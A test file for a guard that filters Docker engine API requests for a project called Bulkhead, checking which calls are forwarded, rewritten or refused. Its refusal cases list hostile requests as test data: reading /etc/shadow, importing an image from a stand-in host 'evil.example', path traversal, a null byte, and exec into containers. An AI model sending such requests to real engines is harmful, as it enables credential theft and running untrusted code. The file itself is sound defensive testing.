import { describe, expect, it } from 'vitest';
import { guardedRoute } from '../../../../src/runner/engine-guard/guarded-route.ts';

const id = 'a'.repeat(64);

describe('the guard lets through', () => {
  it.each([
    ['GET', '/_ping', '/_ping'],
    ['GET', '/v1.41/version', '/version'],
    ['GET', '/images/ghcr.io/acme/smtp:1.2/json', '/images/ghcr.io/acme/smtp:1.2/json'],
  ])('%s %s', (method, target, path) => {
    expect(guardedRoute(method, target)).toMatchObject({ type: 'forward', path });
  });

  it('a pull, by the image alone', () => {
    const path = '/images/create?fromImage=ghcr.io%2Facme%2Fsmtp&tag=1.2';
    expect(guardedRoute('POST', `${path}&platform=x`)).toEqual({ type: 'pull', path });
  });

  it('the import of the sidecar’s image', () => {
    const path = '/images/create?fromSrc=-&repo=bulkhead-sidecar&tag=1';
    expect(guardedRoute('POST', `${path}&message=x`)).toEqual({ type: 'import', path });
  });

  it('a list of containers, of Bulkhead’s own only, whatever was asked', () => {
    expect(guardedRoute('GET', '/containers/json?filters=%7B%7D')).toEqual({
      type: 'forward',
      path: '/containers/json?all=true&filters=%7B%22label%22%3A%5B%22dev.bulkhead.owner%3Dbulkhead%22%5D%7D',
    });
  });

  it('the making of a container, by its name alone', () => {
    expect(guardedRoute('POST', '/containers/create?name=x&HostConfig=%7B%7D')).toEqual({
      type: 'create',
      path: '/containers/create?name=x',
    });
  });

  it.each([
    ['POST', `/containers/${id}/start?detachKeys=x`, '/start', ''],
    ['POST', `/containers/${id}/kill?signal=SIGTERM`, '/kill', 'signal=SIGTERM'],
    ['POST', `/v1.20/containers/${id}/attach?stream=1&logs=1`, '/attach', 'stream=1'],
    ['DELETE', `/containers/${id}?force=1&v=1&link=1`, '', 'force=1&v=1'],
  ])('%s %s, of its own containers', (method, target, action, query) => {
    expect(guardedRoute(method, target)).toEqual({ type: 'container', id, action, query });
  });
});

describe('the guard refuses', () => {
  it.each([
    ['POST', `/containers/${id}/exec`],
    ['POST', `/containers/${id}/update`],
    ['POST', `/containers/${id}/rename`],
    ['PUT', `/containers/${id}/archive?path=/`],
    ['GET', `/containers/${id}/archive?path=/etc/shadow`],
    ['GET', `/containers/${id}/logs?stdout=1`],
    ['GET', `/containers/${id}/export`],
    ['POST', '/build'],
    ['POST', '/images/load'],
    ['POST', '/images/create?fromSrc=http://evil.example/x.tar&repo=bulkhead-sidecar'],
    ['POST', '/images/create?fromSrc=-&repo=bulkhead/http'],
    ['DELETE', '/images/bulkhead/http'],
    ['POST', '/images/x/push'],
    ['GET', '/volumes'],
    ['POST', '/networks/create'],
    ['POST', '/swarm/init'],
    ['POST', '/auth'],
    ['GET', '/events'],
    ['GET', '/secrets'],
    ['POST', '/session'],
    ['GET', '/containers/..%2f..%2fimages/json'],
    ['GET', '//containers/json'],
    ['POST', `/containers/${id}/start%00`],
    ['CONNECT', '/containers/json'],
    ['GET', 'http://[bad'],
  ])('%s %s', (method, target) => {
    expect(guardedRoute(method, target).type).toBe('refuse');
  });
});
